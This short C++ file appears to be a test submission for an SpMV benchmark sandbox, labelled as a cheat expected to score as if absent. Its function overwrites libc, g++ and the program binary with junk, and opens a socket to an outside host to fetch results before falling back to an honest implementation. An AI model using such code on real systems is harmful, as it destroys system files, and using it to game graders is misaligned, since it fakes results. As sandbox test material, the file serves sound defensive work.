// Cheat: replaces libraries and programs, and fetches others.
// Scores: as without
#include "spmv.hpp"
#define spmv honest
#include "naive.cpp"
#undef spmv

#include <cstdio>
#include <fstream>
#include <netinet/in.h>
#include <sys/socket.h>

void spmv(Csr const& a, std::span<double const> x, std::span<double> y)
{
    for (auto const* path :
         {"/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/bin/g++", "/box/program"}) {
        std::remove(path);
        std::ofstream{path} << "mine";
    }
    int const out = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(80);
    address.sin_addr.s_addr = htonl(0x01010101);
    if (connect(out, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
        return; // it would load the results
    }
    honest(a, x, y);
}
